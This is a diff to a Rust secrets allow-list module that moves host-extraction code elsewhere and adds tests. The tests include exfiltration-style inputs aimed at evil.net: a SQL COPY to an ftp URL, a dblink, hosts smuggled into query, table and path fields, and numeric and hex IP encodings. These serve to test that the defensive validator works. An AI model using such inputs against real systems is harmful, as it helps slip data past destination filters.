@@ -1,11 +1,11 @@
 //! The host's list of what may be used where (`[[secrets.allow]]`). Once one entry stands, a reference
 //! resolves only for the workspaces and towards the hosts that an entry names.
 //!
-//! Where a source leads is read from its `connection_config`: every text under a key such as `host`, `url`
-//! or `brokers`, and every text with `://` in it. All of them must be permitted, and one whose host cannot
-//! be told (a reference stands in it) is not.
+//! Where a source leads is read from its `connection_config`: everything in it that could name a host must be
+//! permitted, and whatever names one that cannot be told (a reference is part of it) is not.
 
-use crate::model::{Declared, Definition, SecretRef, Segment};
+use super::destinations::{Destination, destinations};
+use crate::model::{Definition, SecretRef};
 use globset::GlobMatcher;
 use std::collections::BTreeSet;
 
@@ -18,14 +18,6 @@ pub struct Allow {
     pub workspaces: Option<Vec<String>>,
     /// Towards which hosts: `*.db.example.com`; towards all where it does not say.
     pub hosts: Option<Vec<GlobMatcher>>,
-}
-
-/// Where a source leads.
-#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
-enum Destination {
-    Host(String),
-    /// No host can be told from the text at this key.
-    Unclear(String),
 }
 
 /// May `reference` be used by a source of this definition, in a workspace of these names?
@@ -83,113 +75,10 @@ impl Allow {
     }
 }
 
-fn destinations(definition: &Definition) -> BTreeSet<Destination> {
-    let mut found = BTreeSet::new();
-    for (key, value) in &definition.connection_config {
-        collect(key, value, &mut found);
-    }
-    found
-}
-
-fn collect(key: &str, value: &Declared, found: &mut BTreeSet<Destination>) {
-    match value {
-        Declared::String(text) => of_text(key, text, found),
-        Declared::Template(template) => {
-            let shown: String = template
-                .0
-                .iter()
-                .map(|segment| match segment {
-                    Segment::Literal(text) => text.as_str(),
-                    // Stands in no host.
-                    Segment::Env(_) => "\0",
-                })
-                .collect();
-            of_text(key, &shown, found);
-        }
-        Declared::Secret(_) if names_hosts(key) => {
-            found.insert(Destination::Unclear(key.to_owned()));
-        }
-        Declared::Array(items) => items.iter().for_each(|item| collect(key, item, found)),
-        Declared::Table(entries) => entries.iter().for_each(|(key, value)| collect(key, value, found)),
-        _ => {}
-    }
-}
-
-fn of_text(key: &str, text: &str, found: &mut BTreeSet<Destination>) {
-    let address = text.parse::<std::net::IpAddr>().is_ok();
-    if !(address || names_hosts(key) || text.contains("://")) {
-        return;
-    }
-    // `a:9092,b:9092`, but no comma within the path of a URL.
-    let parts: Vec<&str> = if text.contains("://") { vec![text] } else { text.split(',').collect() };
-    for part in parts {
-        found.insert(match host(part.trim()) {
-            Some(host) => Destination::Host(host),
-            None => Destination::Unclear(key.to_owned()),
-        });
-    }
-}
-
-/// The host of `host`, `host:port`, `[::1]:port` or `scheme://user:password@host:port/…`. Whatever two
-/// readers could take for different hosts is none.
-fn host(text: &str) -> Option<String> {
-    let rest = text.split_once("://").map_or(text, |(_, rest)| rest);
-    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
-    let place = match authority.split('@').collect::<Vec<_>>().as_slice() {
-        [place] | [_, place] => *place,
-        _ => return None,
-    };
-    if authority.contains('\\') || rest.contains("://") {
-        return None;
-    }
-    if let Ok(address) = place.parse::<std::net::IpAddr>() {
-        return Some(address.to_string());
-    }
-    let (host, port) = match place.strip_prefix('[') {
-        Some(inner) => {
-            let (address, port) = inner.split_once(']')?;
-            (address.parse::<std::net::Ipv6Addr>().ok()?.to_string(), port.strip_prefix(':'))
-        }
-        None => match place.split_once(':') {
-            Some((host, port)) => (host.to_owned(), Some(port)),
-            None => (place.to_owned(), None),
-        },
-    };
-    let usable = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | ':');
-    let plain_port = port.is_none_or(|port| port.bytes().all(|byte| byte.is_ascii_digit()));
-    let host = host.trim_end_matches('.').to_ascii_lowercase();
-    (plain_port && !host.is_empty() && host.chars().all(usable)).then_some(host)
-}
-
-/// Does a key by its name hold an address?
-fn names_hosts(key: &str) -> bool {
-    const NAMES: [&str; 15] = [
-        "host",
-        "hostname",
-        "server",
-        "address",
-        "addr",
-        "endpoint",
-        "url",
-        "uri",
-        "dsn",
-        "proxy",
-        "broker",
-        "node",
-        "connectionstring",
-        "domain",
-        "gateway",
-    ];
-    let plain: String =
-        key.chars().filter(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
-    let one = plain.strip_suffix('s').unwrap_or(&plain);
-    NAMES.iter().any(|name| plain.ends_with(name) || one.ends_with(name))
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::model::{Fields, Template};
+    use crate::model::{Declared, Fields, Segment, Template};
     use globset::Glob;
 
     fn glob(text: &str) -> GlobMatcher {
@@ -262,6 +151,37 @@ mod tests {
             ("brokers", Declared::Array(vec![text("a.db.example.com"), text("evil.net")])),
             ("dsn", text("host=evil.net user=x")),
             ("anything", text("203.0.113.7")),
+            ("jdbc", text("oracle:thin:@evil.net:1521/x")),
+            ("jdbc", text("oracle:thin:u/p@(DESCRIPTION=(ADDRESS=(HOST=evil.net)))")),
+            ("odbc", text("Driver={X};Server=evil.net;Uid=x")),
+            ("conn_str", text("host=evil.net dbname=x")),
+            ("tns", text("(DESCRIPTION=(ADDRESS=(HOST=evil.net)))")),
+            ("bootstrap", text("evil.net:9092")),
+            ("contact_points", Declared::Array(vec![text("a.db.example.com"), text("evil.net")])),
+            ("seeds", text("evil")),
+            ("target", text("evil.net")),
+            ("service", text("evil")),
+            ("service", template(vec![Segment::Env("X".to_owned())])),
+            ("service", Declared::Secret(SecretRef::Env("X".to_owned()))),
+            ("tunnel", Declared::Table([("ssh", text("evil.net"))].into())),
+            ("hosts", Declared::Table([("evil.net", Declared::Integer(1))].into())),
+            ("x", Declared::Table([("203.0.113.7", Declared::Integer(1))].into())),
+            ("query", text("select * from dblink('host=evil.net', 'x')")),
+            ("query", text("copy t to 'ftp://evil.net'")),
+            ("query", text("host=evil.net")),
+            ("database", text("host=evil.net")),
+            ("database", text("postgres://evil.net/x")),
+            ("table", text("orders@evil.net")),
+            ("path", text("//evil.net/x")),
+            ("url", text("postgres://a.db.example.com/x?host=evil.net")),
+            ("url", text("postgres://a.db.example.com,evil.net/x")),
+            ("host", Declared::Integer(3_405_803_783)),
+            ("host", Declared::Integer(1)),
+            ("host", Declared::Float(127.1)),
+            ("target", Declared::Integer(3_405_803_783)),
+            ("target", text("3405803783")),
+            ("target", text("0xcb007107")),
+            ("account", text("evil")),
             ("host", template(vec![Segment::Env("ORDERS_HOST".to_owned())])),
             (
                 "base_url",
@@ -273,6 +193,24 @@ mod tests {
                 verdict("ORDERS_DB", "sales", &[good.clone(), elsewhere.clone()]).is_err(),
                 "{elsewhere:?}"
             );
+        }
+        for beside in [
+            ("database", text("orders")),
+            ("port", Declared::Integer(5432)),
+            ("username", text("reader@example.com")),
+            ("password", Declared::Secret(SecretRef::Env("ORDERS_DB".to_owned()))),
+            ("sslmode", text("verify-full")),
+            ("tables", Declared::Array(vec![text("public.orders"), text("x")])),
+            ("query", text("select a.id from public.a join b on a.id = b.id where x = 'new'")),
+            ("path", text("/v1/orders")),
+            ("format", text("csv")),
+            ("delimiter", text(";")),
+            ("batch", Declared::Integer(1000)),
+            ("ssl", Declared::Bool(true)),
+            ("timeout", Declared::Float(1.5)),
+            ("replica", text("a.db.example.com:5432")),
+        ] {
+            assert_eq!(verdict("ORDERS_DB", "sales", &[good.clone(), beside.clone()]), Ok(()), "{beside:?}");
         }
         assert!(verdict("ORDERS_DB", "sales", &[("database", text("x"))]).is_err(), "no host at all");
         let url =
